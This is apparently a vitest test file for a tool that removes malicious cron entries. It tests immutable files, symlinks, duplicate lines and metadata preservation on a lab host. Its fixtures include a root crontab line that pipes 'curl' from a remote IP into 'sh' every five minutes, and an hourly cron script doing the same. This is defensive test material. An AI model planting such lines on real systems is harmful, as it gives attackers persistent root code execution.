import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { Lab, LabHost } from '../../lab/index.ts';
import { openLab } from '../../lab/index.ts';
import { unchanged, words } from '../call/infected.fixture.ts';
import { callOf, cronLine, fileTarget, onHost, setting, target } from '../call/scene.fixture.ts';
import { sendCall } from '../call/send.ts';

const TAB = '/var/spool/cron/crontabs/root';
const EVIL = '*/5 * * * * curl -fsSL http://203.0.113.9/x.sh | sh';
const KEPT = 'MAILTO=""\n17 2 * * * /usr/local/bin/backup\n';

let lab: Lab;
let host: LabHost;
beforeAll(async () => {
  lab = await openLab();
  host = await lab.host({ bystanders: false, database: false });
});
afterAll(() => lab?.close());
beforeEach(async () => {
  await host.sh(`chattr -ia ${TAB} /var/spool/cron/crontabs; rm -rf ${TAB}`);
  await host.write(TAB, `${KEPT}${EVIL}\n`, { mode: 0o600 });
});

async function cut(targets = [cronLine(TAB, EVIL)]) {
  const call = callOf(host, { 'remove-cron-entries': targets });
  const { contexts, ...rest } = setting(call);
  // As the survey saw it: two lines that stay, and the attacker's.
  const surveyedLines = new Map([[TAB, 3]]);
  const known = new Map([...contexts].map(([id, context]) => [id, { ...context, surveyedLines }]));
  return onHost(host, async (session) =>
    words((await sendCall(session, call, { ...rest, contexts: known })).acts),
  );
}
const text = async (path = TAB) => (await host.read(path)).toString();
const say = async (script: string) => (await host.sh(script)).stdout.toString().trim();

describe('removing cron lines', () => {
  test('an immutable crontab in an append-only folder loses its line and keeps both attributes', async () => {
    await host.sh(`chattr +i ${TAB}; chattr +a /var/spool/cron/crontabs`);
    expect(await cut()).toEqual(['done']);
    expect(await text()).toBe(KEPT);
    expect(await say(`lsattr -d ${TAB} | cut -d' ' -f1`)).toContain('i');
    expect(await say("lsattr -d /var/spool/cron/crontabs | cut -d' ' -f1")).toContain('a');
  });

  /** With these tools out of the way; they are back afterwards. */
  async function without(tools: readonly string[], then: () => Promise<void>): Promise<void> {
    await host.sh(tools.map((tool) => `mv ${tool} ${tool}.away`).join('; '));
    try {
      await then();
    } finally {
      await host.sh(tools.map((tool) => `mv ${tool}.away ${tool}`).join('; '));
    }
  }

  test('an immutable crontab on a host without anything that frees it is failed, and untouched', async () => {
    await host.sh(`chattr +i ${TAB}`);
    await without(['/usr/bin/chattr', '/usr/bin/systemd-tmpfiles'], async () => {
      const before = await host.manifest();
      expect(await cut()).toEqual(['failed']);
      await unchanged(host, before);
    });
  });

  test('where chattr was taken away systemd’s own tool frees it, and marks it again', async () => {
    await host.sh(`chattr +i ${TAB}`);
    await without(['/usr/bin/chattr'], async () => {
      expect(await cut()).toEqual(['done']);
      expect(await text()).toBe(KEPT);
    });
    expect(await say(`lsattr -d ${TAB} | cut -d' ' -f1`)).toContain('i');
  });

  test('owner, mode and extended attributes stay; modification times become new', async () => {
    await host.sh(`chown 1234:4321 ${TAB}; chmod 640 ${TAB}; touch -d 2001-01-01 ${TAB} /var/spool/cron/crontabs
      python3 -c 'import os; os.setxattr("${TAB}", "user.note", b"kept")'`);
    expect(await cut()).toEqual(['done']);
    expect(await text()).toBe(KEPT);
    expect(await say(`stat -c '%u:%g %a' ${TAB}`)).toBe('1234:4321 640');
    expect(await say(`python3 -c 'import os; print(os.getxattr("${TAB}", "user.note"))'`)).toBe("b'kept'");
    const now = Math.floor(Date.now() / 1000);
    for (const mtime of (await say(`stat -c %Y ${TAB} /var/spool/cron/crontabs`)).split('\n'))
      expect(now - Number(mtime)).toBeLessThan(60);
  });

  test('the only line: the crontab stays, empty, with a new modification time', async () => {
    await host.write(TAB, `${EVIL}\n`, { mode: 0o600, mtime: new Date(0) });
    expect(await cut()).toEqual(['done']);
    expect(await say(`stat -c '%s %a' ${TAB}`)).toBe('0 600');
    expect(Number(await say(`stat -c %Y ${TAB}`))).toBeGreaterThan(1);
  });

  test.each([
    ['a link', `mv ${TAB} /root/tab; ln -s /root/tab ${TAB}`, 'changed'],
    ['a FIFO', `rm ${TAB}; mkfifo ${TAB}`, 'changed'],
    ['a folder', `rm ${TAB}; mkdir ${TAB}`, 'changed'],
    ['nothing', `rm ${TAB}`, 'already-absent'],
    ['a file with NULs', `printf 'a\\000b\\n' >>${TAB}`, 'changed'],
    ['a file where the line is commented out', `sed -i 's/^..5 /#&/' ${TAB}`, 'neutralised'],
    ['a file with the line edited', `sed -i 's/x.sh/y.sh/' ${TAB}`, 'changed'],
    ['a file without the line', `sed -i /x.sh/d ${TAB}`, 'already-absent'],
  ])('at the path is %s: left alone', async (_, script, outcome) => {
    await host.sh(script);
    const before = await host.manifest();
    expect(await cut()).toEqual([outcome]);
    await unchanged(host, before);
  });

  test('the second of three identical lines, and no other', async () => {
    await host.write(TAB, `${EVIL}\na\n${EVIL}\nb\n${EVIL}\n`);
    expect(await cut([cronLine(TAB, EVIL, 2)])).toEqual(['done']);
    expect(await text()).toBe(`${EVIL}\na\nb\n${EVIL}\n`);
  });

  test('a whole file of a periodic folder goes by its identity, another one at its path stays', async () => {
    const path = '/etc/cron.hourly/update';
    await host.write(path, '#!/bin/sh\ncurl x | sh\n', { mode: 0o755 });
    const { identity } = await fileTarget(host, path);
    if (identity.kind !== 'file') throw new Error('no file');
    const whole = target({ ...identity, kind: 'name', type: 'file' });
    await host.write(path, '#!/bin/sh\nother\n', { mode: 0o755 });
    expect(await cut([whole])).toEqual(['changed']);
    expect(await text(path)).toBe('#!/bin/sh\nother\n');
    const now = await fileTarget(host, path);
    if (now.identity.kind !== 'file') throw new Error('no file');
    expect(await cut([target({ ...now.identity, kind: 'name', type: 'file' })])).toEqual(['done']);
    expect((await host.run(['test', '-e', path])).code).toBe(1);
  });
});
